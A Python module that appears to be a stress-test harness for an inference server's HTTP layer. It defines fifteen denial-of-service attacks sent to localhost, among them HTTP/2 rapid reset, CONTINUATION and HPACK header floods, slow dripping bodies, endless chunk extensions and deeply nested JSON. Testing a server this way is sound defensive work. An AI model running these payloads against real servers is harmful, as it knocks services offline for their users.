"""What a hostile client sends, each at full rate until told to stop: blocking sockets, as fast as the server takes it."""

import json
import socket
import time

MIB = 1 << 20
BLOCK = b"a" * (256 * 1024)
CHUNKED_HEAD = (b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n")


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def head(length, path="/v1/completions", fields=""):
    return (f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n{fields}"
            f"Content-Length: {length}\r\n\r\n").encode()


def send_endlessly(port, start, piece, most, until):
    """Sends `start`, then `piece` again and again up to `most` bytes; the server may hang up at any time."""
    try:
        with connect(port) as connection:
            connection.sendall(start)
            sent = 0
            while sent < most and time.monotonic() < until:
                connection.sendall(piece)
                sent += len(piece)
    except OSError:
        pass


def repeated(attack):
    """The attack, begun again as soon as it is over."""
    def run(port, until):
        while time.monotonic() < until:
            attack(port, until)
    return run


@repeated
def chunk_extension(port, until):
    """One chunk whose extension has no end."""
    send_endlessly(port, CHUNKED_HEAD + b"5;", BLOCK, 300 * MIB, until)


@repeated
def trailers(port, until):
    """A request whose trailer section has no end."""
    send_endlessly(port, CHUNKED_HEAD + b"5\r\nhello\r\n0\r\n", (b"x-field: " + b"b" * 100 + b"\r\n") * 500, 200 * MIB, until)


@repeated
def tiny_chunks(port, until):
    """A body in chunks of one byte, each with an extension."""
    send_endlessly(port, CHUNKED_HEAD, b"1;ext=abcdefgh\r\na\r\n" * 2000, 64 * MIB, until)


@repeated
def no_object(port, until):
    """A large body that is an array."""
    body = b"[" + b"1," * (31 * MIB) + b"1]"
    send_endlessly(port, head(len(body)), body, len(body), until)


@repeated
def deep_nesting(port, until):
    body = b'{"prompt":' + b"[" * (8 * MIB)
    send_endlessly(port, head(len(body)), body, len(body), until)


def many_large_bodies(port, until):
    """Twenty bodies of 40 MB at once, each complete but for its last byte."""
    body = b'{"prompt":"' + b"x" * (40 * MIB)
    while time.monotonic() < until:
        connections = []
        try:
            for _ in range(20):
                connection = connect(port)
                connections.append(connection)
                connection.sendall(head(len(body) + 1))
                for at in range(0, len(body), MIB):
                    connection.sendall(body[at:at + MIB])
        except OSError:
            pass
        for connection in connections:
            connection.close()


def dripping_bodies(port, until):
    """Two hundred bodies that arrive a byte at a time."""
    connections = []
    try:
        for _ in range(200):
            connections.append(connect(port))
            connections[-1].sendall(head(1_000_000))
        while time.monotonic() < until:
            for connection in connections:
                try:
                    connection.sendall(b"x")
                except OSError:
                    pass
    finally:
        for connection in connections:
            connection.close()


def bad_requests(port, until):
    """Requests that are refused, each of which a log might want to mention: `{bad` on one connection."""
    request = head(4) + b"{bad"
    while time.monotonic() < until:
        try:
            with connect(port) as connection:
                while time.monotonic() < until:
                    connection.sendall(request * 50)
                    connection.recv(1 << 16)
        except OSError:
            pass


def unread_streams(port, until):
    """Asks for an endless stream that the worker will reset, and reads nothing."""
    body = json.dumps({"model": "m", "prompt": "flood", "stream": True}).encode()
    connections = []
    try:
        while time.monotonic() < until:
            try:
                connection = socket.socket()
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                connection.connect(("127.0.0.1", port))
                connection.sendall(head(len(body)) + body)
                connections.append(connection)
            except OSError:
                pass
            if len(connections) >= 100:
                connections.pop(0).close()
            time.sleep(0.01)
    finally:
        for connection in connections:
            connection.close()


def frame(kind, flags, stream, payload=b""):
    """Of HTTP/2 (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


HTTP2_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# GET / of http: entries of the static table, and the literal :authority "x".
HTTP2_GET = b"\x82\x86\x84\x01\x01x"


@repeated
def rapid_reset(port, until):
    """Requests that are taken back as soon as they are made, on one connection after another."""
    frames = b"".join(frame(1, 5, 2 * i + 1, HTTP2_GET) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(20_000))
    send_endlessly(port, HTTP2_HELLO, frames, 1, until)


@repeated
def held_resets(port, until):
    """The same a moment later, so that each request has reached a worker."""
    try:
        with connect(port) as connection:
            connection.sendall(HTTP2_HELLO)
            for i in range(1_000):
                connection.sendall(frame(1, 5, 2 * i + 1, HTTP2_GET))
                time.sleep(0.001)
                connection.sendall(frame(3, 0, 2 * i + 1, b"\0\0\0\x08"))
                if time.monotonic() >= until:
                    return
    except OSError:
        pass


@repeated
def continuation(port, until):
    """A head of HTTP/2 without an end."""
    send_endlessly(port, HTTP2_HELLO + frame(1, 1, 1, HTTP2_GET), frame(9, 0, 1, b"\0\x01a\x01b" * 3000), 64 * MIB, until)


@repeated
def packed_head(port, until):
    """Heads of HTTP/2 in which a byte stands for 4 kB."""
    large = b"\x40\x01a" + b"\x7f\xa1\x1e" + b"x" * 4000
    send_endlessly(port, HTTP2_HELLO, frame(1, 5, 1, HTTP2_GET + large + b"\xbe" * 8000), 1 * MIB, until)


@repeated
def pings(port, until):
    """PING and SETTINGS, whose answers are not read."""
    send_endlessly(port, HTTP2_HELLO, (frame(6, 0, 0, b"12345678") + frame(4, 0, 0)) * 1000, 64 * MIB, until)


def closed_windows(port, until):
    """A hundred answers on each of fifty connections, for which no window is opened."""
    body = json.dumps({"model": "m", "prompt": "flood", "stream": True}).encode()
    hello = HTTP2_HELLO[:-9] + frame(4, 0, 0, b"\0\x04\0\0\0\0")
    fields = b"\x83\x86\x04\x0f/v1/completions\x01\x01x"
    connections = []
    try:
        for _ in range(50):
            connections.append(connect(port))
            connections[-1].sendall(hello + b"".join(
                frame(1, 4, 2 * i + 1, fields) + frame(0, 1, 2 * i + 1, body) for i in range(100)))
        while time.monotonic() < until:
            time.sleep(0.1)
    except OSError:
        pass
    finally:
        for connection in connections:
            connection.close()


ATTACKS = {
    "chunk_extension": chunk_extension,
    "trailers": trailers,
    "tiny_chunks": tiny_chunks,
    "no_object": no_object,
    "deep_nesting": deep_nesting,
    "many_large_bodies": many_large_bodies,
    "dripping_bodies": dripping_bodies,
    "bad_requests": bad_requests,
    "unread_streams": unread_streams,
    "rapid_reset": rapid_reset,
    "held_resets": held_resets,
    "continuation": continuation,
    "packed_head": packed_head,
    "pings": pings,
    "closed_windows": closed_windows,
}
